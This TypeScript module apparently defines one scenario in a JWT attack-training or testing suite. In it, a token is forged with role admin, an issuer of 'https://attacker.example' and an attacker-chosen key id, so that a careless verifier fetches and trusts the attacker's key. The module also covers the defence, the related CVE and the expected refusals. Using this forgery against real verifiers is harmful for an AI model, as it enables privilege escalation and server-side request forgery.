import { withClaims, withHeader } from '../../service/tokens/parts.ts';
import { signWith } from '../../service/tokens/sign.ts';
import type { Attack } from '../attack.ts';

export const issDiscovery: Attack = {
  id: 'iss-discovery',
  name: 'The token says whom to ask',
  group: 'claims',
  setting: 'own-server',
  precondition:
    'The verifier fetches the keys of the issuer that the token names, whoever that is.',
  needs: ['a-token', 'own-keys', 'own-server'],
  goal: 'The attacker is an issuer like every other; and before that, the server fetches an address of the attacker’s choice.',
  forge: async ({ honest, knows }) => {
    const claimed = withClaims(honest, { role: 'admin', iss: 'https://attacker.example' });
    const pointed = withHeader(claimed, { kid: 'mine' });
    return {
      moves: [
        { say: 'Change two claims: role becomes admin, iss your own server.', token: claimed },
        { say: 'Name your key.', token: pointed },
        { say: 'Sign with it.', token: await signWith(pointed, 'RS256', knows.ownRsa) },
      ],
    };
  },
  explanation: [
    'An issuer’s keys can be found from its name: put /.well-known/ behind it and ask. A service with many customers, each with an issuer of their own, is soon written so that it asks whoever the token names.',
    'The token’s iss is not yet verified when it decides whom to ask. The attacker’s own server answers, with the attacker’s key, and everything fits.',
    'The fetch alone is worth something: it comes from inside the network, and can be aimed at what only answers there. The pretended world shows the address.',
  ],
  defence:
    'Keep a list of issuers with the address of each one’s keys. A token whose iss is not in it is refused before anything is fetched.',
  bcp: ['3.8', '2.9'],
  clauses: [],
  cves: [
    {
      id: 'CVE-2026-32301',
      what: 'Centrifugo before 6.7.0: iss or aud of a token not yet verified became part of the address from which keys were fetched',
    },
  ],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'kid',
      because: 'No configured key is called mine, and nobody is asked for more.',
    },
    strict: {
      outcome: 'refuse',
      at: 'kid',
      because: 'No configured key is called mine, and nobody is asked for more.',
    },
  },
};
